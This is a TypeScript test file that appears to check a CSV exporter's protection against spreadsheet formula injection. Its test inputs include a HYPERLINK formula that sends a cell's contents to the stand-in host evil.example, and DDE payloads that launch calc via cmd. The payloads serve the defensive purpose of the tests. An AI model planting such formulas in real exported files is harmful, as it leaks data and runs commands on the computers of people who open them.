import { describe, expect, it } from 'vitest';
import { parseDelimited } from '../marketplace/delimited.ts';
import { fromCsvCell, toCsv } from './spreadsheet-csv.ts';

const attacks = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', '+cmd|" /C calc"!A0', '-2+3+cmd|" /C calc"!A0', '@SUM(1+1)*cmd|" /C calc"!A0', '\t=1+1', '\r=1+1'];

describe('toCsv', () => {
  it.each(attacks)('neutralises a cell a spreadsheet would run as a formula: %j', (name) => {
    const [row] = parseDelimited(toCsv(['sku', 'name'], [{ sku: 'LF-CH8', name }]));
    expect(row!.name!.startsWith("'")).toBe(true);
    expect(row!.name!.slice(1).trim()).toBe(name.trim());
  });

  it('keeps ordinary text, numbers, quotes, commas and line breaks, with a BOM and CRLF', () => {
    const csv = toCsv(['sku', 'name', 'price'], [{ sku: 'LF-CH8', name: '8" chef knife, G10\n厨师刀', price: 6.5 }]);
    expect(csv.startsWith('\uFEFFsku,name,price\r\n')).toBe(true);
    expect(parseDelimited(csv)).toEqual([{ sku: 'LF-CH8', name: '8" chef knife, G10\n厨师刀', price: '6.5' }]);
  });

  it('round-trips: what an export protected comes back as it was typed', () => {
    for (const name of attacks.filter((attack) => attack.trim() === attack)) {
      const [row] = parseDelimited(toCsv(['name'], [{ name }]));
      expect(fromCsvCell(row!.name!)).toBe(name);
    }
    expect(fromCsvCell("'plain apostrophe")).toBe("'plain apostrophe");
  });
});
